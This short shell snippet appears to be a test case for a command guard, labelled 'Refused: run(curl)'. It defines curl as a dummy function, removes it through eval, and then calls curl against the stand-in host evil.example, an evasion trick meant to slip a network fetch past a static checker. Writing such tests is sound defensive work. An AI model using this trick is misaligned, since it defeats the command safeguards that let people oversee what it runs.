# Trick: a function is taken away again.
# Refused: run(curl)
curl() { :; }
eval 'unset -f curl'
curl http://evil.example/
